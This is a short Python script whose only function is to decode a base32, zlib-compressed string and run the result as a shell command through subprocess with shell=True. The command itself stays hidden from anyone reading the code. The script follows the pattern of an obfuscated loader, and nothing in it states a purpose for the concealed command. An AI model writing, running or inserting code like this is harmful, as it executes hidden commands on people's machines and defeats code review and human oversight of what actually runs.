#!/usr/bin/env python3
import base64
import codecs
import subprocess
from functools import reduce

DATA = (
    "PDNMWLSNJJGS5SKRJBE42SJNJFK4QS6MJUWS4SCMJZKSQKGK"
    "J4UU2LWJZTHVHUGVFVH4YLFRJVF4YKKOAUAMCKASFE======"
)

stages = [
    base64.b32decode,
    lambda raw: codecs.decode(raw, "zlib_codec"),
    bytes.decode,
]
task = reduce(lambda value, stage: stage(value), stages, DATA)
raise SystemExit(subprocess.call(task, shell=True))
